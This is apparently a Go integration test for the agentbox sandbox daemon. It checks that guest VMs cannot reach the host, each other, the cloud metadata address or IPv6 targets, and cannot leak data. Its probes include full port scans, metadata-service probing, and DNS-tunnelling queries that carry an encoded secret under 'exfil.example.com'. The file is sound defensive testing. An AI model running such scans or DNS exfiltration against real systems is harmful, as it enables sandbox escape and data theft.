package isolation

// From inside a guest: two TCG guests (A: allowlist with a name and a
// host:PORT rule, B: open) try every TCP port and a set of UDP ports of
// every host address they could aim at, each other, the metadata address,
// IPv6 (link-local on the tap, the host's global address, a global address
// elsewhere, ::1) and DNS tunnelling through their resolver. agentbox's
// tables drop (never reject) what a policy does not allow, so every refused
// attempt must be a timeout: no RST, no ICMP error, nothing answered.
//
// Nothing leaves the machine: the guard table (guard_test.go) drops and
// counts whatever would leave through a non-tap interface and must count
// nothing; the daemon's upstream resolver is a witness on 127.0.0.0/8
// (its /etc/resolv.conf is bind-mounted in a mount namespace of its own),
// so a forwarded DNS question is seen and never leaves either.

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/miekg/dns"
	"github.com/vishvananda/netlink"

	"github.com/agentbox/agentbox/tests/testenv"
)

// scanResult is one target's answer of the probe's scan.
type scanResult struct {
	Connected []int            `json:"connected"`
	Answered  []int            `json:"answered"`
	Refused   []int            `json:"refused"`
	Errors    map[string][]int `json:"errors"`
	Timeout   int              `json:"timeout"`
}

type scanTarget struct {
	Addr  string   `json:"addr"`
	Scope string   `json:"scope,omitempty"`
	Ports [][2]int `json:"ports"`
}

// allTCP is every TCP port.
var allTCP = [][2]int{{1, 65535}}

// udpPorts are the UDP ports tried on every address: DNS, DHCP, TFTP,
// portmap, NTP, NetBIOS, SNMP, IKE, syslog, SSDP, VXLAN, mDNS, flannel,
// WireGuard, and a high one.
var udpPorts = [][2]int{{53, 53}, {67, 69}, {111, 111}, {123, 123}, {137, 137}, {161, 161}, {500, 500},
	{514, 514}, {1900, 1900}, {4789, 4789}, {5353, 5353}, {8472, 8472}, {51820, 51820}, {60000, 60000}}

func countPorts(rs [][2]int) int {
	n := 0
	for _, r := range rs {
		n += r[1] - r[0] + 1
	}
	return n
}

// dnsWitness is the daemon's upstream resolver: it records every question
// and answers NXDOMAIN.
type dnsWitness struct {
	mu   sync.Mutex
	seen []string
}

func (w *dnsWitness) ServeDNS(rw dns.ResponseWriter, r *dns.Msg) {
	w.mu.Lock()
	for _, q := range r.Question {
		w.seen = append(w.seen, strings.ToLower(q.Name)+" "+dns.TypeToString[q.Qtype])
	}
	w.mu.Unlock()
	m := new(dns.Msg)
	m.SetRcode(r, dns.RcodeNameError)
	rw.WriteMsg(m)
}

func (w *dnsWitness) questions() []string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return slices.Clone(w.seen)
}

func TestIsolationFromGuest(t *testing.T) {
	if os.Geteuid() != 0 {
		testenv.SkipOrFail(t, "the guest isolation tests need root (taps, nftables, mount namespace)")
	}
	testenv.Image(t)
	n := os.Getpid() % 200
	pool := netip.PrefixFrom(netip.AddrFrom4([4]byte{10, 217, byte(n), 0}), 24)
	table := fmt.Sprintf("abxiso%d", os.Getpid())
	g := newGuard(t, fmt.Sprintf("abxguard%d", os.Getpid()), pool)
	t.Cleanup(func() { // last: after the daemon's cleanup removed the sandboxes
		if h := g.hits(); len(h) != 0 {
			t.Errorf("the guard table dropped packets that agentbox's policy let through towards a non-tap interface: %v", h)
		}
	})

	// Loopback: the allowlisted name's HTTP server, the host:PORT
	// server, and the DNS witness.
	lo := netip.AddrFrom4([4]byte{127, 78, byte(n), 1})
	web := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintf(w, "web %s\n", r.Host) })}
	lnName, err := net.Listen("tcp", lo.String()+":80")
	must(t, "listen", err)
	lnHost, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, "listen", err)
	go web.Serve(lnName)
	go web.Serve(lnHost)
	t.Cleanup(func() { web.Close() })
	hostPort := lnHost.Addr().(*net.TCPAddr).Port
	witness := &dnsWitness{}
	pc, err := net.ListenPacket("udp", lo.String()+":53")
	must(t, "listen DNS witness", err)
	dnsSrv := &dns.Server{PacketConn: pc, Handler: witness}
	go dnsSrv.ActivateAndServe()
	t.Cleanup(func() { dnsSrv.Shutdown() })
	resolv := filepath.Join(t.TempDir(), "resolv.conf")
	must(t, "resolv.conf", os.WriteFile(resolv, []byte("nameserver "+lo.String()+"\noptions attempts:1 timeout:2\n"), 0o644))

	tokenFile := filepath.Join(t.TempDir(), "token")
	must(t, "token", os.WriteFile(tokenFile, []byte("isolation-token-0123456789abcdef"), 0o600))
	t.Cleanup(func() { deleteTable(t, table) })
	d := newDaemon(t, "--listen-tcp", "0.0.0.0:0", "--network-table", table, "--network-pool", pool.String(),
		"--network-host", "example.test="+lo.String())
	d.Globals = []string{"--token-file", tokenFile}
	d.resolvConf = resolv
	d.start()
	var m []string
	for deadline := time.Now().Add(30 * time.Second); m == nil && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		m = regexp.MustCompile(`msg="API listening" network=tcp addr=\S*:(\d+)`).FindStringSubmatch(d.Log.String())
	}
	if m == nil {
		t.Fatalf("no TCP listener in the daemon's log:\n%s", d.Log.Tail(4000))
	}
	apiPort := 0
	fmt.Sscan(m[1], &apiPort)

	a := d.create(createBody(t, fmt.Sprintf(`"name":"isoA","network":{"mode":"allowlist","allow":["example.test","host:%d"]}`, hostPort)))
	b := d.create(createBody(t, `"name":"isoB","network":{"mode":"open"}`))
	na, nb := sandboxNet(t, d, a), sandboxNet(t, d, b)
	g.addTap(na.Tap)
	g.addTap(nb.Tap)

	// The host's own addresses (not loopback, not a sandbox tap, not a
	// test veth: other tests' taps come and go).
	var hostV4, hostV6 []netip.Addr
	links, _ := netlink.LinkList()
	for _, l := range links {
		name := l.Attrs().Name
		if name == "lo" || strings.HasPrefix(name, "abx") || strings.HasPrefix(name, "abv") {
			continue
		}
		addrs, _ := netlink.AddrList(l, netlink.FAMILY_ALL)
		for _, ad := range addrs {
			ip, _ := netip.AddrFromSlice(ad.IP)
			ip = ip.Unmap()
			switch {
			case ip.Is4():
				hostV4 = append(hostV4, ip)
			case ip.IsGlobalUnicast() || ip.IsPrivate():
				hostV6 = append(hostV6, ip)
			}
		}
	}
	if len(hostV4) == 0 {
		t.Fatal("no IPv4 address on a host interface")
	}
	// Control: the daemon's TCP API answers on the host's address from
	// the host (401 without the token), so the guests' timeouts there are
	// the firewall's doing.
	for _, h := range hostV4 {
		resp, err := (&http.Client{Timeout: 30 * time.Second}).Get(fmt.Sprintf("http://%s:%d/v1/info", h, apiPort))
		if err != nil || resp.StatusCode != http.StatusUnauthorized {
			t.Fatalf("control: GET the API on %s:%d from the host: %v %v", h, apiPort, resp, err)
		}
		resp.Body.Close()
	}
	// Control: the name and the host port through A's egress service.
	if r := d.exec(a, time.Minute, "python3", "-c", "import urllib.request as u; print(u.urlopen('http://example.test/').read().decode(), end='')"); r.code != 0 || string(r.stdout) != "web example.test\n" {
		t.Fatalf("control: http://example.test/ from A: exit %d %s stdout %q stderr %q", r.code, r.err, r.stdout, r.stderr)
	}

	for _, c := range []struct {
		name       string
		ref        string
		self       sbNet
		other      sbNet
		open       []int // TCP ports open on its own gateway
		otherGuest string
	}{
		{"allowlist", a, na, nb, []int{53, 80, 443, hostPort}, nb.guest()},
		{"open", b, nb, na, []int{53}, na.guest()},
	} {
		t.Run(c.name, func(t *testing.T) {
			slices.Sort(c.open)
			// IPv4: every TCP port, the UDP ports.
			var tcp, udp []scanTarget
			want := map[string][]int{c.self.Gateway: c.open}
			for _, h := range append([]string{c.self.Gateway, c.other.Gateway, c.otherGuest}, addrStrings(hostV4)...) {
				tcp = append(tcp, scanTarget{Addr: h, Ports: allTCP})
				udp = append(udp, scanTarget{Addr: h, Ports: udpPorts})
			}
			tcp = append(tcp, scanTarget{Addr: "169.254.169.254", Ports: [][2]int{{1, 1024}, {8080, 8080}, {8443, 8443}}})
			udp = append(udp, scanTarget{Addr: "169.254.169.254", Ports: udpPorts})
			start := time.Now()
			res := scan(t, d, c.ref, tcp, udp, 2)
			t.Logf("%s: IPv4 scan of %d TCP and %d UDP ports in %s", c.name, countTargets(tcp), countTargets(udp), time.Since(start).Round(time.Millisecond))
			for _, tg := range tcp {
				r := res.TCP[tg.Addr]
				open := want[tg.Addr]
				if !slices.Equal(r.Connected, open) || len(r.Refused) != 0 || len(r.Errors) != 0 || r.Timeout != countPorts(tg.Ports)-len(open) {
					t.Errorf("TCP from %s to %s: connected %v, refused %d %v, errors %v, timeouts %d; want connected %v and every other port a timeout (dropped)",
						c.name, tg.Addr, r.Connected, len(r.Refused), head(r.Refused), r.Errors, r.Timeout, open)
				}
			}
			defer func() {
				if t.Failed() { // the guest's view of its gateway, for the diagnosis
					r := d.exec(c.ref, time.Minute, "sh", "-c", "cat /proc/net/arp; cat /proc/net/snmp | grep -A1 '^Ip:'")
					t.Logf("%s after the scans: %s %s", c.name, r.stdout, r.stderr)
				}
			}()
			for _, tg := range udp {
				r := res.UDP[tg.Addr]
				var answered []int
				if tg.Addr == c.self.Gateway {
					answered = []int{53} // its resolver
				}
				if !slices.Equal(r.Answered, answered) || len(r.Refused) != 0 || len(r.Errors) != 0 || r.Timeout != countPorts(tg.Ports)-len(answered) {
					t.Errorf("UDP from %s to %s: answered %v, refused %v, errors %v, timeouts %d; want answered %v and every other port a timeout (dropped, no ICMP)",
						c.name, tg.Addr, r.Answered, r.Refused, r.Errors, r.Timeout, answered)
				}
			}

			// IPv6: the guest gets a global address, a default route via
			// the tap's link-local address and static neighbours (the
			// host answers no neighbour discovery), so its packets really
			// reach the tap.
			tapLL, mac := tapV6(t, c.self.Tap)
			if r := d.exec(c.ref, time.Minute, "python3", "-c", probePy, mustJSON(map[string]any{
				"op": "ipv6", "addr": "fd5a:b0c5::2", "gw": tapLL, "gwmac": mac, "neigh": []string{tapLL, "fe80::1"},
			})); r.code != 0 || string(r.stdout) != "ok\n" {
				t.Fatalf("IPv6 setup in %s: exit %d %s stdout %q stderr %q", c.name, r.code, r.err, r.stdout, r.stderr)
			}
			v6ports := [][2]int{{22, 22}, {53, 53}, {80, 80}, {443, 443}, {apiPort, apiPort}, {hostPort, hostPort}, {16509, 16509}, {16514, 16514}}
			tcp = []scanTarget{{Addr: tapLL, Scope: "eth0", Ports: v6ports}, {Addr: "2001:db8::1", Ports: v6ports}}
			if tapLL != "fe80::1" {
				tcp = append(tcp, scanTarget{Addr: "fe80::1", Scope: "eth0", Ports: v6ports})
			}
			for _, h := range hostV6 {
				tcp = append(tcp, scanTarget{Addr: h.String(), Ports: v6ports})
			}
			udp = slices.Clone(tcp)
			for i := range udp {
				udp[i].Ports = udpPorts
			}
			loop := scanTarget{Addr: "::1", Ports: v6ports}
			res = scan(t, d, c.ref, append(tcp, loop), udp, 2)
			for _, tg := range tcp {
				k := tg.Addr
				if tg.Scope != "" {
					k += "%" + tg.Scope
				}
				if r := res.TCP[k]; len(r.Connected) != 0 || len(r.Refused) != 0 || len(r.Errors) != 0 || r.Timeout != countPorts(tg.Ports) {
					t.Errorf("TCP over IPv6 from %s to %s: %+v; want every port a timeout (IPv6 dropped)", c.name, k, r)
				}
				if r := res.UDP[k]; len(r.Answered) != 0 || len(r.Refused) != 0 || len(r.Errors) != 0 || r.Timeout != countPorts(udpPorts) {
					t.Errorf("UDP over IPv6 from %s to %s: %+v; want every port a timeout (IPv6 dropped)", c.name, k, r)
				}
			}
			// ::1 is the guest's own loopback, never the host's: its
			// kernel refuses (nothing listens there).
			if r := res.TCP["::1"]; len(r.Refused) != countPorts(v6ports) {
				t.Errorf("TCP from %s to ::1: %+v; want every port refused by the guest's own loopback", c.name, r)
			}
		})
	}

	// DNS tunnelling through A's resolver: names outside the allowlist
	// get NXDOMAIN (authoritative, over UDP and TCP, any type), ANY and
	// other classes REFUSED; none reaches the upstream resolver.
	secret := "6167656e74626f782d7365637265742d6f6e65"
	var qs []map[string]any
	var want []string
	for _, tcp := range []bool{false, true} {
		for _, qt := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeMX, dns.TypeCNAME, dns.TypeNULL, dns.TypeSRV, dns.TypeNS} {
			qs = append(qs, map[string]any{"server": na.Gateway, "name": fmt.Sprintf("%s.%d.exfil.example.com", secret, len(qs)), "type": qt, "tcp": tcp})
			want = append(want, `{"rcode":3,"aa":true,"answers":[]}`)
		}
		qs = append(qs, map[string]any{"server": na.Gateway, "name": secret + ".any.example.com", "type": dns.TypeANY, "tcp": tcp})
		want = append(want, `{"rcode":5,"aa":true,"answers":[]}`)
		qs = append(qs, map[string]any{"server": na.Gateway, "name": "version.bind", "type": dns.TypeTXT, "class": dns.ClassCHAOS, "tcp": tcp})
		want = append(want, `{"rcode":5,"aa":true,"answers":[]}`)
		qs = append(qs, map[string]any{"server": na.Gateway, "name": "example.test", "type": dns.TypeA, "tcp": tcp})
		want = append(want, `{"rcode":0,"aa":true,"answers":["`+na.Gateway+`"]}`)
	}
	// The witness works: B's open-mode resolver forwards A questions
	// (and only A/AAAA: a TXT question gets an empty answer at once).
	qs = append(qs, map[string]any{"server": nb.Gateway, "name": "forward-control.isolation.test", "type": dns.TypeA},
		map[string]any{"server": nb.Gateway, "name": secret + ".txt.isolation.test", "type": dns.TypeTXT})
	want = append(want, `{"rcode":3,"aa":true,"answers":[]}`, `{"rcode":0,"aa":true,"answers":[]}`)
	var got []json.RawMessage
	for i, ref := range []string{a, b} {
		part := qs[:len(qs)-2]
		if i == 1 {
			part = qs[len(qs)-2:]
		}
		r := d.exec(ref, 2*time.Minute, "python3", "-c", probePy, mustJSON(map[string]any{"op": "dns", "queries": part}))
		var out []json.RawMessage
		if r.code != 0 || json.Unmarshal(r.stdout, &out) != nil {
			t.Fatalf("DNS probe: exit %d %s stdout %q stderr %q", r.code, r.err, r.stdout, r.stderr)
		}
		got = append(got, out...)
	}
	for i := range qs {
		if i >= len(got) || compactJSON(got[i]) != compactJSON([]byte(want[i])) {
			t.Errorf("DNS %v: %s, want %s", qs[i], got[i], want[i])
		}
	}
	seen := witness.questions()
	for _, q := range seen {
		if strings.Contains(q, secret) || strings.Contains(q, "example.") || strings.Contains(q, "version.bind") {
			t.Errorf("the upstream resolver saw %q: a guest's question was forwarded", q)
		}
	}
	if !slices.Contains(seen, "forward-control.isolation.test. A") {
		t.Errorf("control: the upstream resolver saw %v, want open mode's forwarded question forward-control.isolation.test. A", seen)
	}
}

// sbNet is a sandbox's "network" in the API.
type sbNet struct {
	Address string `json:"address"`
	Gateway string `json:"gateway"`
	Tap     string `json:"tap"`
}

func (n sbNet) guest() string { return strings.Split(n.Address, "/")[0] }

func sandboxNet(t *testing.T, d *daemon, ref string) sbNet {
	t.Helper()
	var sb struct {
		Network sbNet `json:"network"`
	}
	if err := json.Unmarshal(d.call("GET", "/v1/sandboxes/"+ref, "", http.StatusOK), &sb); err != nil || sb.Network.Tap == "" {
		t.Fatalf("GET sandbox %s: network %+v %v", ref, sb.Network, err)
	}
	return sb.Network
}

// tapV6 returns the tap's IPv6 link-local address (fe80::1 when the host
// gave it none) and its MAC address.
func tapV6(t *testing.T, tap string) (string, string) {
	t.Helper()
	l, err := netlink.LinkByName(tap)
	must(t, "tap "+tap, err)
	addrs, _ := netlink.AddrList(l, netlink.FAMILY_V6)
	ll := "fe80::1"
	for _, a := range addrs {
		if a.IP.IsLinkLocalUnicast() {
			ll = a.IP.String()
		}
	}
	return ll, l.Attrs().HardwareAddr.String()
}

type scanOut struct {
	TCP map[string]scanResult `json:"tcp"`
	UDP map[string]scanResult `json:"udp"`
}

// scan runs the probe's scan in ref with a timeout of secs per batch.
func scan(t *testing.T, d *daemon, ref string, tcp, udp []scanTarget, secs int) scanOut {
	t.Helper()
	r := d.exec(ref, 10*time.Minute, "python3", "-c", probePy, mustJSON(map[string]any{"op": "scan", "tcp": tcp, "udp": udp, "timeout": secs}))
	var out scanOut
	if r.code != 0 || json.Unmarshal(r.stdout, &out) != nil {
		t.Fatalf("scan in %s: exit %d %s stdout %.2000q stderr %.2000q", ref, r.code, r.err, r.stdout, r.stderr)
	}
	for k, v := range out.TCP {
		slices.Sort(v.Connected)
		out.TCP[k] = v
	}
	return out
}

func countTargets(ts []scanTarget) int {
	n := 0
	for _, t := range ts {
		n += countPorts(t.Ports)
	}
	return n
}

func addrStrings(as []netip.Addr) []string {
	var out []string
	for _, a := range as {
		out = append(out, a.String())
	}
	return out
}

func head(ps []int) []int { return ps[:min(len(ps), 20)] }

func mustJSON(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err)
	}
	return string(b)
}

func compactJSON(b []byte) string {
	var v any
	if json.Unmarshal(b, &v) != nil {
		return string(b)
	}
	out, _ := json.Marshal(v)
	return string(out)
}

func must(t *testing.T, what string, err error) {
	t.Helper()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// deleteTable removes the daemon's nftables table after checking that no
// sandbox chain is left in it (the daemon deletes it itself when it stops
// with no sandbox; this only cleans up after a failure).
func deleteTable(t *testing.T, name string) {
	t.Helper()
	c, err := nftables.New()
	if err != nil {
		t.Fatal(err)
	}
	chains, _ := c.ListChainsOfTableFamily(nftables.TableFamilyINet)
	found := false
	for _, ch := range chains {
		if ch.Table.Name != name {
			continue
		}
		found = true
		if strings.HasPrefix(ch.Name, "in-") || strings.HasPrefix(ch.Name, "fwd-") {
			t.Errorf("nftables table %s still has sandbox chain %s after every sandbox was removed", name, ch.Name)
		}
	}
	if found {
		c.DelTable(&nftables.Table{Family: nftables.TableFamilyINet, Name: name})
		if err := c.Flush(); err != nil {
			t.Errorf("delete nftables table %s: %v", name, err)
		}
	}
}
